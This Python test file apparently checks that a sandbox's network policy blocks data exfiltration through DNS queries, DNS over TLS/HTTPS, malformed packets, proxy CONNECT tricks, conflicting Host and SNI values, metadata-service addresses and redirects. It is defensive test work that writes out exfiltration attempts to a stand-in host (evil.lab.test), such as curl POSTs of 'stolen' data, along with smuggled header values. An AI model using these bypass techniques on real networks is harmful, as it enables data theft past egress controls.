# SPDX-License-Identifier: Apache-2.0
"""Exfiltration by words: DNS questions, and requests that say one thing here and another there."""
import time

import support
from lab import DNS4, EVIL4, HOST4, HOST6, ORIGIN4, ORIGIN6
from support import DNS, HTTP, policy
from test_exfiltration import API, NOTHING, Hostile as _Hostile, Watch


class Dns(_Hostile):
    def asked(self, watch=None):
        return {r["name"] for r in self.seen("dns")}

    def test_no_query_leaves(self):
        """No query reaches a server outside, whatever is asked, of whomever, however."""
        box = self.sandbox(NOTHING, user="root")
        names = ["api.lab.test", "evil.lab.test", "aGVsbG8." * 20 + "evil.lab.test", "x" * 63 + ".evil.lab.test",
                 ".".join(["y" * 60] * 4), "a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.evil.lab.test", "_dns.resolver.arpa",
                 "80.0.99.10.in-addr.arpa", "use-application-dns.net", "evil.lab.test.", "api.lab.test.evil.lab.test"]
        types = [1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 41, 43, 46, 48, 52, 64, 65, 99, 250, 251, 252, 255, 256, 257, 65535]
        with Watch() as watch:
            done = box.py(f"""
import threading
n = 0
for name in {names!r}:
    for t in {types!r}:
        r = dns_query(name, t, timeout=1)
        if t in (10, 16) and r: assert not r[1], (name, t, r)
        n += r is not None
for server in {[DNS4, EVIL4, 'fd99::53', '8.8.8.8', '1.1.1.1', '2001:4860:4860::8888', '127.0.0.53']!r}:
    for tcp in (False, True):
        for t in (1, 16, 252):
            r = dns_query('stolen-data.evil.lab.test', t, server, 1, tcp=tcp)
            n += r is not None
print(n)""", timeout=120)
        self.assertEqual(done.status, 0, done)
        self.assert_silent(watch)
        self.assertEqual(self.seen(), [])

    def test_edns_and_malformed(self):
        """Options (client subnet, cookies, padding, keep-alive), wrong counts and classes, updates, notifies."""
        box = self.sandbox(API, user="root")
        with Watch() as watch:
            done = box.py("""
import random
def send(data, tcp=False, server=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(0.05)
    try:
        s.connect((server or gate(), 53))
        s.send((struct.pack('>H', len(data)) if tcp else b'') + data)
        s.recv(4096)
    except OSError:
        pass
    s.close()
q = b'\\6stolen\\4evil\\3lab\\4test\\0'
for opcode in range(16):
    send(struct.pack('>HHHHHH', 7, opcode << 11 | 0x100, 1, 0, 0, 0) + q + b'\\0\\1\\0\\1')
for code in (3, 8, 10, 11, 12, 15, 65001):
    option = struct.pack('>HH', code, 300) + b'D' * 300
    opt = b'\\0' + struct.pack('>HHIH', 41, 4096, 0x8000, len(option)) + option
    send(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 1) + q + b'\\0\\1\\0\\1' + opt)
    send(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 1) + q + b'\\0\\1\\0\\1' + opt, True)
for counts in ((2, 0, 0, 0), (0, 0, 0, 0), (65535,) * 4, (1, 1, 0, 0), (1, 0, 1, 0), (1, 0, 0, 9)):
    send(struct.pack('>HHHHHH', 7, 0x100, *counts) + q + b'\\0\\1\\0\\1')
for klass in (2, 3, 4, 254, 255):
    send(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + q + struct.pack('>HH', 1, klass))
send(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b'\\xc0\\x0c\\0\\1\\0\\1')
send(b'')
send(bytes(65000))
base = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + q + b'\\0\\1\\0\\1'
rng = random.Random(3)
for i in range(300):
    b = bytearray(base)
    for _ in range(rng.randrange(1, 5)): b[rng.randrange(len(b))] = rng.randrange(256)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(bytes(b), (gate(), 53)); s.close()
""", timeout=90)
            time.sleep(0.3)
        self.assertEqual(done.status, 0, done)
        self.assert_silent(watch)
        self.assertEqual(self.asked(), set())
        # The responder's limit of queries a second may still be at work.
        self.assertTrue(support.wait_until(lambda: "/after" in box.sh("curl -sS https://api.lab.test/after").out, 5 * support.SLOW, 0.3))
        self.assertEqual(self.asked(), {"api.lab.test"})

    def test_dot_and_doh(self):
        """DNS over TLS and HTTPS to a resolver that no rule names."""
        box = self.sandbox(API, user="root")
        done = box.sh("""
for a in 10.99.0.66 1.1.1.1 8.8.8.8; do
    echo | timeout 5 openssl s_client -connect $a:853 -servername dns.evil.lab.test >/dev/null 2>&1
    curl -ksS -m 5 -o /dev/null -w '%{http_code}\\n' -H 'accept: application/dns-message' \
        "https://$a/dns-query?dns=AAABAAABAAAAAAAABnN0b2xlbgRldmlsA2xhYgR0ZXN0AAABAAE"
    curl -ksS -m 5 -o /dev/null -w '%{http_code}\\n' --resolve dns.evil.lab.test:443:$a \
        --data-binary stolen "https://dns.evil.lab.test/dns-query"
done; true""", timeout=90)
        self.assertNotIn("200", done.out, done)
        self.assertEqual(self.seen(), [])

    def test_only_allowed_names_are_asked_for(self):
        box = self.sandbox(policy("https://*.wild.lab.test", "https://api.lab.test"), user="root")
        box.sh("for n in www.lab.test evil.lab.test wild.lab.test secret.wild.lab.test.evil.lab.test api.lab.test "
               "a.wild.lab.test; do curl -sS -m 5 -o /dev/null https://$n/; getent hosts leak-$n; done; true")
        self.assertEqual(self.asked(), {"api.lab.test", "a.wild.lab.test"})

    def test_each_query_is_in_the_log(self):
        box = self.sandbox(NOTHING, user="root")
        box.py("for i in range(20): dns_query('q%d.evil.lab.test' % i, 16)")
        self.assertIsNotNone(box.event(DNS, **{"query.hostname": "q19.evil.lab.test"}))
        self.assertEqual(len({e["query"]["hostname"] for e in box.events(DNS)}), 20)


class Http(_Hostile):
    """Requests that say one thing here and another there: none leads where the policy does not."""

    @classmethod
    def setUpClass(cls):
        cls.box = support.Sandbox(policy("https://api.lab.test", "http://plain.lab.test", "https://meta.lab.test",
                                         "https://private.lab.test", "https://loop.lab.test", "http://meta.lab.test"),
                                  user="root")

    @classmethod
    def tearDownClass(cls):
        cls.box.close()

    def check(self, watch, paths=()):
        self.assertEqual(watch.foreign(), [])
        for flow in watch.flows():
            self.assertIn(flow, [(17, HOST4, DNS4, 53), (6, HOST4, ORIGIN4, 443), (6, HOST6, ORIGIN6, 443),
                                 (6, HOST4, ORIGIN4, 80), (6, HOST6, ORIGIN6, 80)])
        self.assertEqual(self.seen("evil"), [])
        for row in self.seen("http"):
            host = dict(row["headers"]).get("Host", "")
            self.assertIn(host, ("api.lab.test", "plain.lab.test"), row)
            self.assertNotIn("steal", row["path"])

    def test_connect(self):
        targets = ["127.0.0.1:80", "127.0.0.1:3128", "localhost:22", "[::1]:80", "198.18.0.1:3128", "198.18.0.1:53",
                   "169.254.169.254:80", "metadata.google.internal:80", "10.99.0.66:443", "10.99.0.1:22", "11.22.33.44:80",
                   "evil.lab.test:443", "api.lab.test:22", "api.lab.test:80", "api.lab.test:8443", "0.0.0.0:80",
                   "2130706433:80", "0x7f.1:80", "[::ffff:10.99.0.66]:443", "[fd99::80]:443", "api.lab.test@evil.lab.test:443",
                   "evil.lab.test#api.lab.test:443", "api.lab.test%00.evil.lab.test:443", "api.lab.test:443:22", "*:443",
                   "api.lab.test.:22", "[fe80::1%25eth0]:80", "api.lab.test:0", "api.lab.test:65536", ":443", "/", ""]
        with Watch() as watch:
            done = self.box.py(f"""
r = {{}}
for t in {targets!r}:
    s, status, _ = proxy_connect(t)
    if status == 200:  # the tunnel ends at the worker: what is said in it is judged by itself
        try:
            s.settimeout(2)
            s.sendall(b'GET /steal HTTP/1.1\\r\\nHost: evil.lab.test\\r\\nConnection: close\\r\\n\\r\\n')
            status = read_all(s)[:12].decode('latin-1')
        except OSError: pass
    r[t] = status
    s.close()
print(json.dumps(r))""", timeout=120)
        self.assertEqual(done.status, 0, done)
        for target, status in done.json().items():
            with self.subTest(target=target):
                self.assertNotIn("200", str(status))
        self.check(watch)

    def test_absolute_form(self):
        urls = ["http://evil.lab.test/steal", "http://127.0.0.1:3128/steal", "http://10.99.0.66/steal",
                "http://169.254.169.254/latest/meta-data/steal", "https://evil.lab.test/steal", "ftp://evil.lab.test/steal",
                "http://plain.lab.test@evil.lab.test/steal", "http://plain.lab.test:22/steal", "file:///etc/passwd",
                "http://evil.lab.test:80#plain.lab.test/steal", "http://[::1]/steal", "*",
                "http://plain.lab.test%2eevil.lab.test/steal", "http://plain.lab.test\\@evil.lab.test/steal",
                "http:///steal", "http://", "evil.lab.test:80/steal"]
        with Watch() as watch:
            done = self.box.py(f"""
r = []
for url in {urls!r}:
    for host in ('plain.lab.test', 'evil.lab.test', None):
        for where, port in ((gate(), PROXY_PORT), ('plain.lab.test', 80)):
            s = connect(where, port)
            s.sendall(request('GET', url, host, 'Connection: close'))
            s.settimeout(3)
            r.append((url, host, port, read_all(s)[:12].decode('latin-1')))
print(json.dumps(r))""", timeout=120)
        for url, host, port, status in done.json():
            with self.subTest(url=url, host=host, port=port):
                self.assertNotIn("200", status)
        self.check(watch)

    def test_host_field(self):
        heads = ["Host: evil.lab.test", "Host: plain.lab.test\\r\\nHost: evil.lab.test", "Host : evil.lab.test",
                 "Host: plain.lab.test, evil.lab.test", "Host: evil.lab.test:80", "Host: plain.lab.test:443", "Host:",
                 "Host: plain.lab.test\\r\\n\\tevil.lab.test", "host: evil.lab.test\\r\\nHost: plain.lab.test",
                 "Host: plain.lab.test/evil", "Host: plain.lab.test@evil.lab.test", "Host: 10.99.0.66",
                 "Host: plain.lab.test#", "Host: plain.lab.test\\x00", "X: y\\nHost: evil.lab.test"]
        with Watch() as watch:
            done = self.box.py(f"""
r = []
for head in {heads!r}:
    head = head.encode().decode('unicode_escape').encode('latin-1')
    for to in ('plain.lab.test', '10.99.0.66', '10.99.0.80'):
        s = connect(to, 80)
        s.sendall(b'GET /steal HTTP/1.1\\r\\n' + head + b'\\r\\nConnection: close\\r\\n\\r\\n')
        s.settimeout(3)
        r.append((to, repr(head), read_all(s)[:12].decode('latin-1')))
print(json.dumps(r))""", timeout=120)
        for to, head, status in done.json():
            with self.subTest(to=to, head=head):
                self.assertNotIn("200", status)
        self.check(watch)

    def test_addresses_of_names(self):
        """Allowed by name, but the name leads to the host, a private network, the metadata service: nothing is dialed."""
        with Watch() as watch:
            done = self.box.sh("for n in https://meta.lab.test http://meta.lab.test https://private.lab.test "
                               "https://loop.lab.test; do curl -ksS -m 8 -o /dev/null -w '%{http_code} ' $n/steal; done")
        self.assertNotIn("200", done.out, done)
        self.check(watch)

    def test_redirects(self):
        with Watch() as watch:
            done = self.box.sh("curl -ksSL -m 8 -w '%{http_code}' https://api.lab.test/redirect")
        self.assertTrue(done.out.endswith("403"), done)
        self.check(watch)
        self.assertEqual({r["name"] for r in self.seen("dns")}, {"api.lab.test"})

    def test_sni_and_host_disagree(self):
        with Watch() as watch:
            done = self.box.py("""
r = []
for to, sni, host in (('api.lab.test', 'api.lab.test', 'evil.lab.test'), ('api.lab.test', 'evil.lab.test', 'api.lab.test'),
                      ('10.99.0.66', 'api.lab.test', 'evil.lab.test'), ('evil.lab.test', 'api.lab.test', 'api.lab.test'),
                      ('api.lab.test', '', 'evil.lab.test')):
    try:
        s = tls(to, 443, sni=sni, verify=False)
        s.sendall(request('GET', '/steal', host, 'Connection: close'))
        r.append((to, sni, host, read_all(s)[:12].decode('latin-1')))
    except OSError as e:
        r.append((to, sni, host, type(e).__name__))
print(json.dumps(r))""")
        for row in done.json():
            with self.subTest(row=row):
                self.assertNotIn("200", row[3])
        self.check(watch)

    def test_every_refusal_is_in_the_log(self):
        self.box.sh("curl -sS -m 5 -o /dev/null -X POST --data-binary stolen https://evil.lab.test/collected")
        event = self.box.event(HTTP, **{"http_request.url.hostname": "evil.lab.test"})
        self.assertIsNotNone(event)
        self.assertEqual(event["action_id"], 2)
